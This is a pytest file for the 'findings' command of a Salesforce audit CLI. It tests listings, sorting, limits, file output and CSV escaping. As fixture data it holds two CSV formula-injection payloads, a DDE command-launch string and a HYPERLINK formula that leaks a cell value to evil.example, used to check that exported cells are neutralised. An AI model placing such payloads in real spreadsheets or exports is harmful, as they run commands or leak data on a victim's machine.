"""``sfsync findings`` an admin can triage: names, amounts, the rule's values, owners by
name, sorting, a cut list that says so, one CSV column per value, ``--out``."""

from __future__ import annotations

import csv
import io
import json
import stat
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import delete

from sfsync.audit import finding_columns, list_findings, run_audit
from sfsync.config import DatabaseSettings, Settings
from sfsync.errors import UsageError
from sfsync.warehouse import Warehouse
from sfsync.warehouse.models import Finding
from tests.cli_helpers import run_cli
from tests.integration.audit.load import load_org, new_warehouse
from tests.integration.conftest import OrgFactory
from tests.unit.audit.org import Org, sfid

AS_OF = date(2024, 8, 15)
HANNAH = sfid("005", 11)
SAM_ACTIVE = sfid("005", 12)
SAM_GONE = sfid("005", 13)
MALLORY = sfid("005", 14)
HOSTILE_OWNER = "=cmd|' /C calc'!A0"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@dataclass
class Triage:
    url: str
    warehouse: Warehouse
    ids: dict[str, str]

    @property
    def env(self) -> dict[str, str]:
        return {"SFSYNC_DATABASE_URL": self.url, "COLUMNS": "400"}


@pytest.fixture
def triage(db_url: str) -> Iterator[Triage]:
    """An audited org in two currencies (EUR at 0.9 to the USD), two users named Sam Lee."""
    org = Org.standard(currencies={"USD": 1.0, "EUR": 0.9}, corporate="USD")
    for user_id, name, active in (
        (HANNAH, "Hannah Suzuki", True),
        (SAM_ACTIVE, "Sam Lee", True),
        (SAM_GONE, "Sam Lee", False),
        (MALLORY, HOSTILE_OWNER, True),
    ):
        org.add("User", {"Id": user_id, "Name": name, "IsActive": active})
    ids = {
        # close date in a past quarter (and big, untouched: stale too)
        "alpha": org.opportunity(
            name="Alpha",
            stage="Develop",
            amount=90_000.0,
            currency="EUR",
            close_date="2024-06-30",
            fields={"OwnerId": HANNAH},
        ),
        "beta": org.opportunity(
            name="Beta",
            amount=20_000.0,
            currency="USD",
            close_date="2024-05-31",
            fields={"OwnerId": SAM_ACTIVE},
        ),
        "gamma": org.opportunity(
            name="Gamma",
            amount=70_000.0,
            currency="USD",
            close_date="2024-08-01",
            fields={"OwnerId": SAM_GONE},
        ),
        # docs/rules.md example 15: open 237 days, stage unchanged 100 days, 4 extensions
        "delta": org.opportunity(
            name="Delta",
            amount=None,
            created="2023-12-22T08:30:00",
            stage="Qualify",
            close_date="2024-07-31",
            history=(
                ("2023-12-22T08:30:00", "2024-01-31", "Create"),
                ("2024-02-10T10:00:00", "2024-03-15", "Create"),
                ("2024-03-20T10:00:00", "2024-04-30", "Create"),
                ("2024-05-07T16:45:00", "2024-06-30", "Qualify"),
                ("2024-06-20T11:00:00", "2024-07-31", "Qualify"),
            ),
            fields={"OwnerId": HANNAH},
        ),
        "epsilon": org.opportunity(
            name=HOSTILE_NAME,
            amount=10_000.0,
            currency="USD",
            close_date="2024-04-30",
            fields={"OwnerId": MALLORY},
        ),
    }
    warehouse = new_warehouse(db_url)
    load_org(warehouse, org)
    run_audit(warehouse, Settings(database=DatabaseSettings(url=db_url)), as_of=AS_OF)
    yield Triage(db_url, warehouse, ids)
    warehouse.dispose()


def listed(t: Triage, *args: str) -> list[dict[str, Any]]:
    outcome = run_cli("findings", "--format", "json", *args, env=t.env)
    assert outcome.exit_code == 0, outcome.output
    found = json.loads(outcome.stdout)
    assert isinstance(found, list)
    return found


def one(found: list[dict[str, Any]], rule: str, opportunity_id: str) -> dict[str, Any]:
    [match] = [f for f in found if f["rule"] == rule and f["opportunity_id"] == opportunity_id]
    return match


# --------------------------------------------------------------------------- what is shown


def test_findings_show_the_opportunity_its_owner_the_amount_and_the_rules_values(
    triage: Triage,
) -> None:
    found = listed(triage)
    alpha = one(found, "close_date_past", triage.ids["alpha"])
    assert alpha["opportunity_name"] == "Alpha"
    assert alpha["owner_id"] == HANNAH
    assert alpha["owner_name"] == "Hannah Suzuki"
    assert alpha["stage"] == "Develop"
    assert alpha["close_date"] == "2024-06-30"
    assert alpha["amount"] == 100_000.0  # 90,000 EUR at 0.9, as the audit converts
    assert alpha["amount_currency"] == "USD"
    # the rule's own values, one key each (k is a value of two rules: named by rule)
    assert alpha["close_date_past.k"] == -1
    assert alpha["today"] == "2024-08-15"
    assert alpha["close_date_past.amount"] == 90_000.0
    assert alpha["close_date_past.currency"] == "EUR"
    assert "details" not in alpha

    stale = one(found, "stale_last_modified", triage.ids["alpha"])
    assert stale["threshold_days"] == 14
    assert stale["days_since_last_human_modification"] == (AS_OF - date(2024, 1, 2)).days
    assert stale["stale_last_modified.k"] == -1
    assert "close_date_past.k" not in stale  # only its own rule's values

    slipping = one(found, "close_date_slipping", triage.ids["delta"])
    assert slipping["amount"] is None  # no Amount: none, not 0
    assert slipping["month_extensions"] == 4
    assert slipping["days_since_stage_change"] == 100
    assert slipping["days_open"] == 237
    assert slipping["min_extensions"] == 3


def test_slip_metrics_have_plain_keys_when_only_close_date_slipping_is_listed(
    triage: Triage,
) -> None:
    [slipping] = listed(triage, "--rule", "close_date_slipping")
    assert slipping["opportunity_name"] == "Delta"
    assert slipping["owner_name"] == "Hannah Suzuki"
    assert (slipping["month_extensions"], slipping["days_open"]) == (4, 237)
    assert slipping["close_date_slipping.close_date"] == "2024-07-31"
    assert not [key for key in slipping if key.startswith(("close_date_past", "stale_"))]


def test_the_table_shows_names_amounts_and_a_compact_values_column(triage: Triage) -> None:
    outcome = run_cli("findings", env=triage.env)
    assert outcome.exit_code == 0, outcome.output
    lines = outcome.stdout.splitlines()
    assert lines[0].split() == [
        "rule", "opportunity", "name", "owner", "amount", "stage", "close_date",
        "status", "severity", "opened", "values",
    ]  # fmt: skip
    alpha = next(line for line in lines if "Alpha" in line and "close_date_past" in line)
    assert "Hannah Suzuki" in alpha
    assert HANNAH not in alpha
    assert "100,000" in alpha
    assert "2024-06-30" in alpha
    assert "k=-1" in alpha
    delta = next(line for line in lines if "Delta" in line)
    assert "month_extensions=4" in delta
    assert "days_since_stage_change=100" in delta
    assert "days_open=237" in delta
    assert lines[-1] == f"{len(lines) - 2} finding(s); amounts in USD"


# --------------------------------------------------------------------------- --owner


def test_owner_by_name_lists_that_users_findings(triage: Triage) -> None:
    by_id = listed(triage, "--owner", HANNAH)
    assert {f["opportunity_id"] for f in by_id} == {triage.ids["alpha"], triage.ids["delta"]}
    assert listed(triage, "--owner", HANNAH[:15]) == by_id
    assert listed(triage, "--owner", "Hannah Suzuki") == by_id
    assert listed(triage, "--owner", "  hannah   SUZUKI ") == by_id


def test_owner_name_of_several_users_is_refused_with_each_name_and_id(triage: Triage) -> None:
    outcome = run_cli("findings", "--owner", "Sam Lee", env=triage.env)
    assert outcome.exit_code == 2
    assert outcome.stdout == ""
    assert "2 users are named 'Sam Lee'" in outcome.stderr
    assert f"Sam Lee ({SAM_ACTIVE})" in outcome.stderr
    assert f"Sam Lee ({SAM_GONE})" in outcome.stderr
    with pytest.raises(UsageError, match="2 users are named"):
        list_findings(triage.warehouse, owner="sam lee")
    assert {f["owner_id"] for f in listed(triage, "--owner", SAM_GONE)} == {SAM_GONE}


@pytest.mark.parametrize(
    ("owner", "hint"),
    [
        ("Hanna Suzuki", "did you mean Hannah Suzuki"),
        ("Suzuki", "did you mean Hannah Suzuki"),
        ("Nobody Atall", None),
    ],
)
def test_owner_name_of_no_user_is_refused_naming_it_with_a_close_match(
    triage: Triage, owner: str, hint: str | None
) -> None:
    outcome = run_cli("findings", "--owner", owner, env=triage.env)
    assert outcome.exit_code == 2
    assert f"no user is named {owner!r}" in outcome.stderr
    if hint is None:
        assert "did you mean" not in outcome.stderr
    else:
        assert hint in outcome.stderr
        assert HANNAH in outcome.stderr


# --------------------------------------------------------------------------- --sort, --limit


def test_sort_by_amount_descending_puts_findings_without_an_amount_last(triage: Triage) -> None:
    minus = listed(triage, "--sort", "-amount")
    amounts = [f["amount"] for f in minus]
    known = [a for a in amounts if a is not None]
    assert known == sorted(known, reverse=True)
    assert amounts == [*known, None]  # Delta has no amount
    assert listed(triage, "--sort=amount", "--desc") == minus
    ascending = [f["amount"] for f in listed(triage, "--sort", "amount")]
    assert ascending == [*sorted(known), None]


@pytest.mark.parametrize(
    ("key", "field"),
    [
        ("close_date", "close_date"),
        ("owner", "owner_name"),
        ("name", "opportunity_name"),
        ("opened", "opened_at"),
        ("severity", "severity"),
    ],
)
def test_sort_keys_order_the_listing(triage: Triage, key: str, field: str) -> None:
    values = [f[field] for f in listed(triage, "--sort", key)]
    if key == "severity":
        assert values == sorted(values, key=lambda s: s == "error")  # warn before error
    else:
        assert values == sorted(values, key=str.casefold)
    descending = [f[field] for f in listed(triage, "--sort", f"-{key}")]
    assert descending == sorted(descending, key=lambda v: values.index(v), reverse=True)


def test_sort_by_a_rules_value_and_unknown_keys_are_refused(triage: Triage) -> None:
    by_days = listed(triage, "--rule", "stale_last_modified", "--sort", "-threshold_days")
    assert by_days
    outcome = run_cli("findings", "--sort", "amout", env=triage.env)
    assert outcome.exit_code == 2
    assert "--sort: 'amout'" in outcome.stderr
    assert "did you mean 'amount'" in outcome.stderr
    assert run_cli("findings", "--desc", env=triage.env).exit_code == 2


def test_limit_keeps_the_first_n_and_says_the_list_was_cut(triage: Triage) -> None:
    total = len(listed(triage))
    assert total > 2
    table = run_cli("findings", "--sort", "-amount", "--limit", "2", env=triage.env)
    assert table.exit_code == 0, table.output
    lines = table.stdout.splitlines()
    assert len(lines) == 1 + 2 + 1
    assert lines[-1] == f"showing 2 of {total} finding(s); amounts in USD"
    assert "Alpha" in lines[1]  # the largest amount first

    first_two = listed(triage, "--sort", "-amount", "--limit", "2")
    assert first_two == listed(triage, "--sort", "-amount")[:2]
    cut = run_cli("findings", "--format", "csv", "--limit", "2", env=triage.env)
    assert len(list(csv.DictReader(io.StringIO(cut.stdout, newline="")))) == 2
    assert f"showing 2 of {total} finding(s)" in cut.stderr  # stdout stays CSV only

    whole = run_cli("findings", "--limit", str(total), env=triage.env)
    assert "showing" not in whole.output
    assert f"{total} finding(s)" in whole.stdout


# --------------------------------------------------------------------------- CSV


def test_csv_has_a_column_per_value_and_no_formula_cells(triage: Triage) -> None:
    outcome = run_cli("findings", "--format", "csv", env=triage.env)
    assert outcome.exit_code == 0, outcome.output
    rows = list(csv.reader(io.StringIO(outcome.stdout, newline="")))
    assert rows[0] == [c.name for c in finding_columns()]
    by_id = {(r[0], r[1]): dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    alpha = by_id[("close_date_past", triage.ids["alpha"])]
    assert (alpha["owner_name"], alpha["amount"], alpha["close_date_past.k"]) == (
        "Hannah Suzuki",
        "100000.0",
        "-1",  # a number, written as one
    )
    assert alpha["close_date_past.big"] == "true"
    epsilon = by_id[("close_date_past", triage.ids["epsilon"])]
    assert epsilon["opportunity_name"] == "'" + HOSTILE_NAME
    assert epsilon["owner_name"] == "'" + HOSTILE_OWNER
    for row in rows[1:]:
        for column, cell in zip(rows[0], row, strict=True):
            assert not cell.startswith(("{", "[")), (column, cell)  # no JSON
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                float(cell)  # only numbers (k = -1) may start so


# --------------------------------------------------------------------------- --out


def test_out_writes_the_same_output_to_a_private_file(triage: Triage, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    for fmt in ("csv", "json", "table"):
        target = out / f"findings.{fmt}"
        printed = run_cli("findings", "--format", fmt, "--sort", "name", env=triage.env)
        written = run_cli(
            "findings", "--format", fmt, "--sort", "name", "--out", str(target), env=triage.env
        )
        assert written.exit_code == 0, written.output
        assert target.read_text(encoding="utf-8") == printed.stdout
        assert stat.S_IMODE(target.stat().st_mode) == 0o600
        total = len(listed(triage))
        assert written.stdout == f"wrote {total} finding(s) to {target}\n"
    # No temporary file is left behind.
    assert sorted(p.name for p in out.iterdir()) == [
        "findings.csv",
        "findings.json",
        "findings.table",
    ]


def test_out_to_a_missing_directory_is_exit_2_naming_it(triage: Triage, tmp_path: Path) -> None:
    target = tmp_path / "no-such-dir" / "findings.csv"
    outcome = run_cli("findings", "--format", "csv", "--out", str(target), env=triage.env)
    assert outcome.exit_code == 2
    assert f"--out: cannot write {target}" in outcome.stderr
    assert not target.parent.exists()


# --------------------------------------------------------------------------- the library


def test_list_findings_reads_inside_the_callers_transaction(triage: Triage) -> None:
    """What a what-if audit needs: list what its transaction sees, then roll it back."""
    before = list_findings(triage.warehouse, status="all")
    with triage.warehouse.engine.connect() as conn:
        transaction = conn.begin()
        conn.execute(delete(Finding).where(Finding.rule == "close_date_past"))
        inside = list_findings(conn, status="all")
        assert {f.rule for f in inside} == {f.rule for f in before} - {"close_date_past"}
        assert transaction.is_active  # left to the caller
        transaction.rollback()
    assert list_findings(triage.warehouse, status="all") == before


def test_an_empty_warehouse_lists_no_findings(db_url: str) -> None:
    warehouse = new_warehouse(db_url)
    try:
        assert list_findings(warehouse, status="all") == []
    finally:
        warehouse.dispose()


# --------------------------------------------------------------------------- a demo-like org


def test_csv_of_a_synced_org_has_one_column_per_value_and_no_json(
    running_org: OrgFactory,
) -> None:
    org = running_org(300)
    synced = run_cli("sync", env=org.env)
    assert synced.exit_code == 0, synced.output
    warehouse = org.warehouse()
    run_audit(warehouse, org.settings)
    outcome = run_cli("findings", "--status", "all", "--format", "csv", env=org.env)
    assert outcome.exit_code == 0, outcome.output
    rows = list(csv.reader(io.StringIO(outcome.stdout, newline="")))
    header, body = rows[0], rows[1:]
    columns = finding_columns()
    assert header == [c.name for c in columns]
    assert len(set(header)) == len(header)
    assert len({row[0] for row in body}) >= 3  # most rules found something
    as_json = json.loads(
        run_cli("findings", "--status", "all", "--format", "json", env=org.env).stdout
    )
    assert len(as_json) == len(body)
    for row, finding in zip(body, as_json, strict=True):
        cells = dict(zip(header, row, strict=True))
        for column in columns:
            cell = cells[column.name]
            assert not cell.startswith(("{", "[")), (column.name, cell)
            if column.rule not in (None, finding["rule"]):
                assert cell == "", (column.name, cell)  # another rule's value
                continue
            value = finding[column.name]
            if value is None:
                assert cell == ""
            elif isinstance(value, bool):
                assert cell == str(value).lower()
            elif isinstance(value, str):
                assert cell in (value, "'" + value)
            else:
                assert float(cell) == value
    slipping = run_cli(
        "findings", "--rule", "close_date_slipping", "--format", "csv", env=org.env
    ).stdout
    slip_header = next(csv.reader(io.StringIO(slipping)))
    for metric in ("month_extensions", "days_since_stage_change", "days_open"):
        assert metric in slip_header
